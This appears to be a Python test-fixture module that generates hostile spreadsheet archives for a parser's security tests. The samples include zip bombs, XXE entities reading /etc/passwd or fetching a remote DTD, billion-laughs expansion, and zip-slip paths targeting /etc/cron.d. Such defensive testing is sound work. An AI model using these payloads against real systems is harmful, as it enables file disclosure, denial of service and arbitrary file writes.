"""Zip files that want to hurt: bombs, entities, names that climb, and damage. Source: THREATS T23."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from tests.unit.formats.table_files import old_workbook

MEGA = 1 << 20
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
SCHEMA = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
BOOK = (
    f'<workbook xmlns="{SCHEMA}" xmlns:r="{OFFICE}"><sheets><sheet name="People" sheetId="1" r:id="rId1"/>'
    "</sheets></workbook>"
)
TOP = (
    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
LINKS = (
    f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}/worksheet" '
    f'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="{OFFICE}/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
ENTITY = '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE sst [<!ENTITY a0 'ha'>{}]>".format(
    "".join(f"<!ENTITY a{number} '{f'&a{number - 1};' * 10}'>" for number in range(1, 10))
)


def sheet(body: str, head: str = "") -> str:
    """Return the XML of a sheet."""
    return f'<?xml version="1.0"?>{head}<worksheet xmlns="{SCHEMA}"><sheetData>{body}</sheetData></worksheet>'


def texts(body: str, head: str = "") -> str:
    """Return the XML of shared texts."""
    return f'<?xml version="1.0"?>{head}<sst xmlns="{SCHEMA}">{body}</sst>'


def pack(parts: Mapping[str, str | bytes], level: int = 6) -> bytes:
    """Return a zip file of these parts."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return stream.getvalue()


def book(
    body: str = "", *, raw: str | None = None, shared: str = "", more: Mapping[str, str | bytes] | None = None
) -> bytes:
    """Return a workbook of one sheet. body: rows; raw: the whole sheet instead. shared: the shared texts."""
    return pack(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": TOP,
            "xl/workbook.xml": BOOK,
            "xl/_rels/workbook.xml.rels": LINKS,
            "xl/worksheets/sheet1.xml": raw if raw is not None else sheet(body),
            "xl/sharedStrings.xml": shared or texts(""),
            **(more or {}),
        },
        level=1,
    )


def cell(place: str, text: str) -> str:
    """Return the XML of a cell of text."""
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def opendocument(table: str) -> bytes:
    """Return an ODS file with one table."""
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    content = (
        f'<?xml version="1.0"?><office:document-content {spaces}><office:body><office:spreadsheet>'
        f'<table:table table:name="People">{table}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    return pack({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": content})


def _lying() -> bytes:
    """Return a workbook whose sheet claims to be small and is not."""
    data = bytearray(book(raw=sheet(" " * (100 * MEGA))))
    place = data.rindex(b"PK\x01\x02", 0, data.rindex(b"xl/worksheets/sheet1.xml"))
    data[place + 24 : place + 28] = struct.pack("<I", 500)
    return bytes(data)


def _encrypted() -> bytes:
    data = bytearray(book(cell("A1", "x")))
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def _damaged() -> bytes:
    data = bytearray(book("".join(f'<row r="{row}">{cell(f"A{row}", f"text {row}")}</row>' for row in range(1, 900))))
    place = data.index(b"xl/worksheets/sheet1.xml") + 400
    data[place : place + 40] = bytes(40)
    return bytes(data)


def _nested() -> bytes:
    inner = pack({"zeros.bin": bytes(40 * MEGA)}, level=9)
    for _ in range(4):
        inner = pack({f"{number}.zip": inner for number in range(8)}, level=1)
    return book(cell("A1", "x"), more={"xl/media/inner.zip": inner})


def _climbing(name: str) -> bytes:
    return book(cell("A1", "x"), more={name: "owned"})


def _rows(count: int) -> str:
    return "<row><c t='inlineStr'><is><t>x</t></is></c></row>" * count


ARCHIVES: Mapping[str, Callable[[], bytes]] = {
    "bomb-ratio.xlsx": lambda: book(cell("A1", "x"), more={"xl/media/zeros.bin": bytes(400 * MEGA)}),
    "bomb-sheet.xlsx": lambda: book(raw=sheet(" " * (90 * MEGA))),
    "bomb-lying.xlsx": _lying,
    "bomb-nested.xlsx": _nested,
    "bomb-shared-texts.xlsx": lambda: book(cell("A1", "x"), shared=texts("<si><t>x</t></si>" * 3_000_000)),
    "bomb-empty-elements.xlsx": lambda: book(raw=sheet("<x/>" * 8_000_000)),
    "bomb-attribute.xlsx": lambda: book(raw=sheet(f'<row r="1" spans="{"9" * (50 * MEGA)}"/>')),
    "bomb-deep.xlsx": lambda: book(raw=sheet("<a>" * 400_000 + "</a>" * 400_000)),
    "bomb-one-text.xlsx": lambda: book(cell("A1", "y" * (40 * MEGA))),
    "entity-shared-texts.xlsx": lambda: book(cell("A1", "x"), shared=texts("<si><t>&x;</t></si>", ENTITY)),
    "entity-sheet.xlsx": lambda: book(raw=sheet(cell("A1", "&x;"), ENTITY.replace("sst", "worksheet"))),
    "entity-parameter.xlsx": lambda: book(
        cell("A1", "x"), shared=texts("", '<!DOCTYPE sst [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>')
    ),
    "billion-laughs.xlsx": lambda: book(cell("A1", "x"), shared=texts("<si><t>&a9;</t></si>", LAUGHS)),
    "quadratic.xlsx": lambda: book(
        cell("A1", "x"),
        shared=texts(f"<si><t>{'&a;' * 50_000}</t></si>", f"<!DOCTYPE sst [<!ENTITY a '{'b' * 50_000}'>]>"),
    ),
    "slip-up.xlsx": lambda: _climbing("../../../../tmp/owned.txt"),
    "slip-root.xlsx": lambda: _climbing("/etc/cron.d/owned"),
    "slip-backslash.xlsx": lambda: _climbing("xl\\..\\..\\owned.txt"),
    "slip-twice.xlsx": lambda: pack({"xl/workbook.xml": BOOK, "xl/Workbook.xml ": BOOK, "x/../y.xml": "<a/>"}),
    "rows-million.xlsx": lambda: book(_rows(1_000_000)),
    "rows-last.xlsx": lambda: book(f'<row r="1048576">{cell("A1048576", "x")}</row>'),
    "columns-10000.xlsx": lambda: book(f'<row r="1">{"<c><v>1</v></c>" * 10_000}</row>'),
    "corner-last.xlsx": lambda: book(f'<row r="1048576">{cell("XFD1048576", "x")}</row>'),
    "sheets-many.xlsx": lambda: pack(
        {
            "[Content_Types].xml": TYPES,
            "_rels/.rels": TOP,
            "xl/workbook.xml": BOOK.replace(
                '<sheet name="People" sheetId="1" r:id="rId1"/>',
                "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="rId1"/>' for number in range(1, 800)),
            ),
            "xl/_rels/workbook.xml.rels": LINKS,
            "xl/worksheets/sheet1.xml": sheet(cell("A1", "x")),
            "xl/sharedStrings.xml": texts(""),
        }
    ),
    "merged-million.xlsx": lambda: book(
        raw=sheet(cell("A1", "x")).replace(
            "</worksheet>",
            "<mergeCells>" + '<mergeCell ref="A1:A40000"/>' * 400_000 + "</mergeCells></worksheet>",
        )
    ),
    "truncated.xlsx": lambda: book(_rows(500))[:-200],
    "truncated-half.xlsx": lambda: (data := book(_rows(500)))[: len(data) // 2],
    "damaged.xlsx": _damaged,
    "encrypted-zip.xlsx": _encrypted,
    "no-sheet.xlsx": lambda: pack({"[Content_Types].xml": TYPES, "xl/workbook.xml": BOOK}),
    "binary.xlsb": lambda: pack({"xl/workbook.bin": b"\x00" * 100}),
    "word.docx": lambda: pack({"word/document.xml": "<a/>"}),
    "plain.zip": lambda: pack({"people.csv": "a,b\n1,2\n"}),
    "repeated.ods": lambda: opendocument(
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string" '
        'table:number-columns-repeated="1000"><text:p>x</text:p></table:table-cell></table:table-row>'
    ),
    "repeated-beyond.ods": lambda: opendocument(
        '<table:table-row table:number-rows-repeated="99999999999"><table:table-cell/></table:table-row>'
    ),
    "protected.xls": lambda: old_workbook([(0, 0, 1.0)], name="EncryptedPackage"),
    "far.xls": lambda: old_workbook([(65535, 255, 1.0)]),
    "truncated.xls": lambda: old_workbook([(0, 0, 1.0)])[:900],
    "stranger.xls": lambda: old_workbook([(0, 0, 1.0)], name="WordDocument"),
    "numbers.xls": lambda: old_workbook([(0, 0, 1.0), (1, 1, 2.0)]),
}
